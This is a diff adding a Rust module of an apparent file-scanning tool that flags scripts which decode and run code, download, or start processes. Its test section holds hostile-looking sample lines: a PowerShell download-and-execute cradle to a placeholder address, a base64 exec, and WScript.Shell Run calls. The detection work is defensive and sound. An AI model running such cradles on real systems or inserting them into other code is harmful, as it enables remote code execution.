@@ -1,0 +1,300 @@
+//! Scripts that came as files, parts or members, or were decoded: what they do.
+//!
+//! A page's own script, the script of an app package and what a macro decodes are their host's matter.
+
+use super::{Analyzer, Findings, Found, Look, Sees};
+use crate::formats::command_line;
+use crate::formats::script;
+use crate::formats::vba::{Event, Module, fold};
+use crate::knowledge::{Behaviours, Deed};
+use crate::model::{Artifact, Family, Kind};
+use crate::text;
+
+/// Its row in the table.
+pub(super) const ROW: Analyzer = Analyzer {
+    name: "scripts",
+    kinds: KINDS,
+    sees: Sees::Place,
+    findings: &["script"],
+    run,
+};
+
+/// Programs in text that a double click or an interpreter runs.
+pub(super) const KINDS: &[Kind] = &[
+    Kind::Js,
+    Kind::Jse,
+    Kind::Vbs,
+    Kind::Vbe,
+    Kind::Wsf,
+    Kind::Sct,
+    Kind::Hta,
+    Kind::Ps1,
+    Kind::Bat,
+    Kind::Sh,
+    Kind::Py,
+    Kind::Pl,
+    Kind::Rb,
+    Kind::Php,
+    Kind::Lua,
+    Kind::Au3,
+    Kind::AppleScript,
+];
+
+/// Bytes of a script that are searched.
+const LONGEST: usize = 4 << 20;
+
+fn run(look: &Look<'_>, findings: &mut Findings<'_>) {
+    let artifact = look.artifact;
+    if !KINDS.contains(&artifact.kind) || is_of_its_host(look) {
+        return;
+    }
+    let decoded = artifact.via == Some("decoded-text");
+    let from_script = look
+        .parent()
+        .is_some_and(|parent| KINDS.contains(&parent.kind));
+    let what = artifact.kind.describe();
+    match deed(artifact, &look.knowledge.behaviour) {
+        Some((variant, shown)) => {
+            findings.report(Found::new("script", &format!("{what}: {shown}")).variant(variant));
+        }
+        // What a script decodes is told where it does something; the script itself is told anyway.
+        None if decoded && from_script => {}
+        None => findings.report(Found::new("script", what)),
+    }
+}
+
+/// Whether the script is a piece of something that is judged as a whole.
+fn is_of_its_host(look: &Look<'_>) -> bool {
+    let Some(parent) = look.parent() else {
+        return false;
+    };
+    let decoded = look.artifact.via == Some("decoded-text");
+    let js = look.artifact.kind == Kind::Js;
+    let page = matches!(
+        parent.kind,
+        Kind::Html | Kind::Svg | Kind::Mht | Kind::Css | Kind::Epub
+    );
+    let package = matches!(
+        parent.kind,
+        Kind::Jar | Kind::Apk | Kind::Xpi | Kind::Crx | Kind::Appx
+    );
+    let part = matches!(parent.kind.family(), Family::Ooxml | Family::Odf)
+        && look
+            .artifact
+            .name
+            .as_ref()
+            .is_some_and(|name| name.extensions().any(|extension| extension == "xml"));
+    // Code of a macro or of a link is told by the macro, the link and the commands in it.
+    let macros = decoded
+        && look
+            .ancestors()
+            .any(|above| matches!(above.kind, Kind::VbaSource | Kind::XlmSource | Kind::Lnk));
+    page && js || package || part || macros
+}
+
+/// What a script does, and the texts that show it.
+fn deed(artifact: &Artifact, behaviour: &Behaviours) -> Option<(&'static str, String)> {
+    let data = artifact.data.get(..LONGEST).unwrap_or(&artifact.data);
+    let source = text::to_utf8(data);
+    if let Some((_, command)) = script::encoded_commands(&source).into_iter().next() {
+        return Some(("decodes-and-runs", format!("encoded command: {command}")));
+    }
+    if let Some(shown) = runs_what_it_builds(artifact) {
+        return Some(("decodes-and-runs", shown));
+    }
+    let mut squeezed = squeezed(&source, artifact.kind);
+    if artifact.kind == Kind::Vbs {
+        add_folded(artifact, &mut squeezed);
+    }
+    if let Some((deed, texts)) = behaviour.deed(artifact.kind, &squeezed) {
+        let variant = match deed {
+            Deed::DecodesAndRuns => "decodes-and-runs",
+            Deed::Downloads => "downloads",
+            Deed::StartsProcess => "starts-process",
+        };
+        return Some((variant, texts.join(", ").trim().to_owned()));
+    }
+    if artifact.kind == Kind::Bat {
+        return started(&source, behaviour).map(|line| ("starts-process", line));
+    }
+    None
+}
+
+/// The script in lower case without blanks and without lines that are comments.
+fn squeezed(source: &str, kind: Kind) -> String {
+    let marks: &[&str] = match kind {
+        Kind::Js | Kind::Jse | Kind::Php => &["//", "*", "/*"],
+        Kind::Vbs => &["'", "rem "],
+        Kind::Bat => &["rem ", "@rem ", "::", "echo ", "@echo "],
+        Kind::Wsf | Kind::Sct | Kind::Hta => &["//", "'", "<!--"],
+        Kind::Au3 => &[";"],
+        Kind::Lua | Kind::AppleScript => &["--"],
+        _ => &["#"],
+    };
+    let mut out = String::with_capacity(source.len());
+    for line in source.lines() {
+        let line = line.trim();
+        let head = line
+            .get(..line.floor_char_boundary(8))
+            .unwrap_or(line)
+            .to_ascii_lowercase();
+        // What is only shown is no deed, unless it goes on behind it.
+        let shown = head.contains("echo ") && (line.contains('>') || line.contains('&'));
+        if marks.iter().any(|mark| head.starts_with(mark)) && !shown {
+            continue;
+        }
+        out.push('\n');
+        out.extend(
+            line.chars()
+                .filter(|c| !c.is_whitespace() && !matches!(c, '`' | '^'))
+                .map(|c| c.to_ascii_lowercase()),
+        );
+    }
+    out
+}
+
+/// Adds what the texts of a script in Basic come to.
+fn add_folded(artifact: &Artifact, squeezed: &mut String) {
+    let module = Module::read(&artifact.data);
+    fold(&module, &|_| 0, &mut |event| {
+        let texts: Vec<String> = match &event {
+            Event::Text { text, .. } => vec![text.as_str().to_owned()],
+            Event::Call(call) => call
+                .arguments
+                .iter()
+                .filter_map(|one| one.value.as_text())
+                .map(|text| text.as_str().to_owned())
+                .collect(),
+            _ => Vec::new(),
+        };
+        for text in &texts {
+            if squeezed.len() > LONGEST.saturating_mul(2) {
+                break;
+            }
+            squeezed.push('\n');
+            squeezed.extend(
+                text.chars()
+                    .filter(|c| !c.is_whitespace())
+                    .map(|c| c.to_ascii_lowercase()),
+            );
+        }
+    });
+}
+
+/// `Execute` of Basic on a text that was put together.
+fn runs_what_it_builds(artifact: &Artifact) -> Option<String> {
+    if artifact.kind != Kind::Vbs {
+        return None;
+    }
+    let module = Module::read(&artifact.data);
+    let mut shown = None;
+    fold(&module, &|_| 0, &mut |event| {
+        if let Event::Call(call) = event
+            && matches!(call.name, "execute" | "executeglobal" | "eval")
+            && let Some(text) = call.arguments.first().and_then(|one| one.value.as_text())
+        {
+            let built = text.built();
+            if built.characters > 3 || built.rearranged > 0 {
+                shown.get_or_insert_with(|| text.as_str().to_owned());
+            }
+        }
+    });
+    shown
+}
+
+/// The first command of a batch file that starts foreign code.
+fn started(source: &str, behaviour: &Behaviours) -> Option<String> {
+    let starts = |line: &&str| {
+        let bare = line.trim().trim_start_matches('@').to_ascii_lowercase();
+        if bare.starts_with("rem ") || bare.starts_with("::") || bare.starts_with("echo ") {
+            return false;
+        }
+        let start = bare.starts_with("start ") && bare.len() > 6;
+        start
+            || command_line::commands(line)
+                .iter()
+                .any(|command| behaviour.batch.starters.contains(&command.program))
+    };
+    source
+        .lines()
+        .take(20_000)
+        .find(starts)
+        .map(|line| line.trim().to_owned())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::tests::{artifact, findings_of, holding};
+    use super::*;
+
+    fn found(kind: Kind, source: &str) -> Vec<&'static str> {
+        let tree = [holding(kind, source.as_bytes())];
+        findings_of("scripts", &tree)
+            .into_iter()
+            .map(|(_, severity)| severity)
+            .collect()
+    }
+
+    #[test]
+    fn a_script_is_medium_and_one_that_does_something_critical() {
+        for (kind, source) in [
+            (
+                Kind::Js,
+                "function a(b) { return b + 1; }\n// new ActiveXObject('WScript.Shell').Run('x')\n",
+            ),
+            (
+                Kind::Bat,
+                "@echo off\r\ncopy a b\r\necho start powershell\r\nrem start x\r\n",
+            ),
+            (
+                Kind::Ps1,
+                "Get-ChildItem | Sort-Object Name\n# Start-Process x\n",
+            ),
+            (
+                Kind::Vbs,
+                "' CreateObject(\"WScript.Shell\").Run x\r\nMsgBox 1\r\n",
+            ),
+            (Kind::Py, "import os\nprint(os.getcwd())\n"),
+        ] {
+            assert_eq!(found(kind, source), ["medium"], "{source}");
+        }
+        for (kind, source) in [
+            (Kind::Js, "new ActiveXObject('WScript.Shell').Run('x');"),
+            (
+                Kind::Vbs,
+                "CreateObject(\"WScr\" & \"ipt.Shell\").Run \"x\"\r\n",
+            ),
+            (
+                Kind::Vbs,
+                "Execute Chr(77) & Chr(115) & Chr(103) & Chr(66) & Chr(111) & Chr(120)\r\n",
+            ),
+            (
+                Kind::Ps1,
+                "iex ((New-Object Net.WebClient).DownloadString('http://192.0.2.1/'))",
+            ),
+            (Kind::Bat, "start \"\" a.exe\r\n"),
+            (Kind::Py, "exec(base64.b64decode('YWJj'))\n"),
+        ] {
+            assert_eq!(found(kind, source), ["critical"], "{source}");
+        }
+    }
+
+    #[test]
+    fn the_script_of_a_page_or_a_package_and_the_code_of_a_macro_are_their_hosts_matter() {
+        for (host, via) in [
+            (Kind::Html, "decoded-text"),
+            (Kind::Jar, "zip-member"),
+            (Kind::VbaSource, "decoded-text"),
+            (Kind::Mht, "mime-part"),
+        ] {
+            let mut child = holding(Kind::Js, b"x");
+            child.id = 1;
+            child.parent = Some(0);
+            child.via = Some(via);
+            assert!(
+                findings_of("scripts", &[artifact(host), child]).is_empty(),
+                "{host}"
+            );
+        }
+    }
+}
